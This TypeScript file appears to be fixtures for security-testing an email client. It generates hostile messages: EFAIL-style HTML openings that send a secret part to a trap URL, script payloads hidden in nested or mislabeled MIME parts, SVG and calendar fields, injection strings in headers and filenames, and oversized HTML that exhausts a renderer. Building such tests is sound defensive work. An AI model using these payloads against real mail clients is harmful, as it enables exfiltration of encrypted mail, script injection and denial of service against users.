/** Messages whose structure is the weapon: EFAIL, nesting, names, sizes. */
import { htmlMessage, makeMessage, multipart, part, proof, trapUrl, type Attack } from './attack.ts'

/** What EFAIL would carry away. */
export const secret = 'THE-SECRET-OF-THE-DEPARTMENT'

const mixed = (name: string, parts: readonly string[], subtype = 'mixed', more = {}): Attack => ({
  name,
  message: makeMessage(
    { Subject: name, 'Content-Type': `multipart/${subtype}; boundary=b1`, ...more },
    multipart(subtype, parts),
  ),
})

/** An address is opened in one part and closed in another; between them stands what was secret. */
export function efailAttacks(): readonly Attack[] {
  const openings = (url: string) => [
    `<img src="${url}?`,
    `<img src='${url}?`,
    `<img src=${url}?`,
    `<img ignore="`,
    `<a href="${url}?`,
    `<link rel=stylesheet href="${url}?`,
    `<form action="${url}"><textarea name=x>`,
    `<form action="${url}"><button name=x value="`,
    `<style>body{background:url("${url}?`,
    `<style>@import '${url}?`,
    `<iframe src="${url}?`,
    `<object data="${url}?`,
    `<base href="${url}/`,
    `<meta http-equiv=refresh content="0;url=${url}?`,
    `<svg><image href="${url}?`,
  ]
  return openings('x').flatMap((_, at) => {
    const name = `efail ${at}`
    const opening = part('text/html', openings(trapUrl(name))[at] ?? '')
    const closing = part('text/html', `">'></style></textarea><input type=submit autofocus>`)
    const plain = part('text/plain', secret)
    const html = part('text/html', `<p>${secret}</p>`)
    return [
      mixed(name, [opening, plain, closing]),
      mixed(`${name} html`, [opening, html, closing], 'related'),
    ]
  })
}

export function nestedAttacks(): readonly Attack[] {
  const nest = (depth: number): string => {
    let body = part('text/html', `<p>deep</p><script>${proof(`nested ${depth}`)}</script>`)
    for (let level = 0; level < depth; level++)
      body = part(`multipart/mixed; boundary=n${level}`, multipart('mixed', [body], `n${level}`))
    return body
  }
  const eml = (depth: number): string =>
    depth === 0
      ? 'Subject: bottom\r\n\r\nx'
      : `Subject: level\r\nContent-Type: message/rfc822\r\n\r\n${eml(depth - 1)}`
  return [
    ...[3, 30, 200].map((depth) => mixed(`nested ${depth}`, [nest(depth)])),
    ...[2, 60].map((depth) =>
      mixed(`message in message ${depth}`, [part('message/rfc822', eml(depth))]),
    ),
    mixed('boundary of nothing', [part('text/html', '<p>x</p>')], 'mixed', {
      'Content-Type': 'multipart/mixed',
    }),
    mixed(
      'alternative of alternatives',
      Array.from({ length: 200 }, (_, at) => part('text/html', `<p>${at}</p>`)),
      'alternative',
    ),
    mixed('type that lies', [
      part('text/plain; name="x.html"', `<script>${proof('type that lies')}</script>`),
    ]),
    mixed('header in body', [
      part('text/html\r\nContent-Type: text/plain', `<script>${proof('header in body')}</script>`),
    ]),
    mixed(
      'location',
      [
        part(
          'text/html',
          '<img src="x.png">',
          `Content-Location: ${trapUrl('location')}/\r\nContent-Base: ${trapUrl('location')}/\r\n`,
        ),
      ],
      'related',
    ),
    mixed('external body', [
      part(`message/external-body; access-type=URL; URL="${trapUrl('external body')}"`, '\r\n'),
    ]),
    mixed(
      'picture that is a page',
      [
        part(
          'text/html',
          '<img src="cid:p"><object data="cid:p"></object><iframe src="cid:p"></iframe>',
        ),
        part(
          'image/svg+xml',
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${proof('picture that is a page')}"/>`,
          'Content-ID: <p>\r\n',
        ),
      ],
      'related',
    ),
    mixed(
      'page that is a picture',
      [
        part('text/html', '<img src="cid:p">'),
        part(
          'image/png',
          `<script>${proof('page that is a picture')}</script>`,
          'Content-ID: <p>\r\n',
        ),
      ],
      'related',
    ),
    mixed(
      'picture of itself',
      [part('text/html', '<img src="cid:p">', 'Content-ID: <p>\r\n')],
      'related',
    ),
    mixed(
      'amp',
      [part('text/plain', 'x'), part('text/x-amp-html', `<script>${proof('amp')}</script>`)],
      'alternative',
    ),
    mixed(
      'calendar',
      [
        part(
          'text/calendar; method=REQUEST',
          `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>${proof('calendar')}</script>\r\nATTACH:${trapUrl('calendar')}\r\nEND:VEVENT\r\nEND:VCALENDAR`,
        ),
      ],
      'alternative',
    ),
  ]
}

/** Names and subjects are shown outside the frame: they must be text there. */
export function nameAttacks(): readonly Attack[] {
  const texts = (name: string) => [
    `<script>${proof(name)}</script>`,
    `"><img src=x onerror="${proof(name)}">`,
    `javascript:${proof(name)}`,
    `\u202Efdp.exe`,
    `../../../../etc/passwd`,
    `{{constructor.constructor("${proof(name)}")()}}`,
    `\${${proof(name)}}`,
    '長'.repeat(5_000),
    `<style>*{display:none}</style>`,
    `\u0000\u0007\u001b[31mred`,
  ]
  const word = (text: string) =>
    Array.from(
      text.match(/[^]{1,12}/gu) ?? [],
      (piece) => `=?utf-8?B?${Buffer.from(piece).toString('base64')}?=`,
    ).join('\r\n ')
  return texts('x').map((_, at) => {
    const name = `name ${at}`
    const text = word(texts(name)[at] ?? '')
    return {
      name,
      message: makeMessage(
        {
          Subject: text,
          From: `${text} <m@elsewhere.example>`,
          Cc: `${text} <c@elsewhere.example>`,
          'Content-Type': 'multipart/mixed; boundary=b1',
        },
        multipart('mixed', [
          part('text/plain', texts(name)[at] ?? ''),
          part(
            `text/html; name="${text}"`,
            'x',
            `Content-Disposition: attachment; filename="${text}"\r\n`,
          ),
        ]),
      ),
    }
  })
}

/** So much of it that showing it is the attack. */
export function sizeAttacks(): readonly Attack[] {
  const table = `<table>${'<tr>'.repeat(200)}`
  return [
    htmlMessage('deep divs', '<div>'.repeat(60_000)),
    htmlMessage('deep tables', '<table><tr><td>'.repeat(10_000)),
    htmlMessage('many elements', '<b>x</b>'.repeat(70_000)),
    htmlMessage('many pictures', `<img src="${trapUrl('many pictures')}">`.repeat(5_000)),
    htmlMessage('many links', '<a href="https://a.example/">x</a>'.repeat(20_000)),
    htmlMessage('many styles', '<p style="color:red;background:url(x)">x</p>'.repeat(15_000)),
    htmlMessage('one long word', 'x'.repeat(300_000)),
    htmlMessage('one long attribute', `<p title="${'x'.repeat(500_000)}">x</p>`),
    htmlMessage(
      'many attributes',
      `<p ${Array.from({ length: 5_000 }, (_, at) => `a${at}=x`).join(' ')}>x</p>`,
    ),
    htmlMessage('formatting elements', `${'<b><i><u><a>'.repeat(1_500)}x${'<p>'.repeat(500)}`),
    htmlMessage('wide table', table.repeat(20)),
    htmlMessage('entities', '&amp;lt;'.repeat(50_000)),
    {
      name: 'quotes',
      message: makeMessage(
        { Subject: 'quotes', 'Content-Type': 'text/plain' },
        `${'>'.repeat(900)} x\n`.repeat(400),
      ),
    },
    {
      name: 'lines',
      message: makeMessage(
        { Subject: 'lines', 'Content-Type': 'text/plain' },
        '> a\nb\n'.repeat(5_000),
      ),
    },
    {
      name: 'addresses',
      message: makeMessage(
        { Subject: 'addresses', 'Content-Type': 'text/plain' },
        'https://a.example/( a@b.example '.repeat(3_000),
      ),
    },
  ]
}
